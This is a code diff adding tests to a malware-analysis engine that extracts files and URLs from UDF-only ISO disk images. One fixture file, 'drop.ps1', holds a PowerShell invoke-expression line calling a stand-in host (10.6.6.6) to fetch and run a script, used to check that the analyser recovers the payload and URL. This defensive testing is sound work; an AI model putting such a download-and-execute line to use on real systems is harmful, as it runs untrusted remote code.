@@ -624,6 +624,40 @@ class TestISO:
                        for _, p, o in result.triples if p == "file")
         assert names == ["SCRIPT.SH", "install-stage2.sh"]
 
+    def test_udf_only_payload_recovered(self):
+        from kgmwcp.engine import iso9660
+
+        # bridge image: empty primary tree, payload lives ONLY in UDF —
+        # without the UDF walk this extracts nothing (the round-2 gap)
+        ps1 = b"iex 'http://10.6.6.6/udf-drop.ps1'"
+        image = iso9660.build_udf_bridge(
+            {"drop.ps1": ps1, "note.txt": b"udf only"})
+        assert iso9660.is_iso(image)
+        reader = iso9660.IsoReader(image)
+        assert reader.has_udf()
+        assert not reader.has_joliet() and not reader.has_rock_ridge()
+        assert list(reader.walk("iso")) == []
+        udf_files = {n: d for _, n, d in reader.walk("udf")}
+        assert udf_files == {"drop.ps1": ps1, "note.txt": b"udf only"}
+
+        result = run(image, name="image.iso")
+        assert any("UDF extension identified" in m for m in result.logs)
+        file_rows = [json.loads(o) for _, p, o in result.triples if p == "file"]
+        descs = {f["name"]: f["description"] for f in file_rows}
+        # lower-case .ps1 name IS identified (unlike the 8.3 upper-case view)
+        assert descs["drop.ps1"] == "PowerShell Script"
+        urls = [json.loads(o)["url"] for _, p, o in result.triples if p == "url"]
+        assert "http://10.6.6.6/udf-drop.ps1" in urls
+
+    def test_udf_multi_extent_and_subdir(self):
+        from kgmwcp.engine import iso9660
+
+        # a payload spanning several 2048-byte extents round-trips intact
+        big = bytes(range(256)) * 40        # 10240 bytes = 5 sectors
+        image = iso9660.build_udf_bridge({"big.bin": big})
+        got = {n: d for _, n, d in iso9660.IsoReader(image).walk("udf")}
+        assert got == {"big.bin": big}
+
     def test_identical_name_views_dedupe(self):
         from kgmwcp.engine import iso9660
 
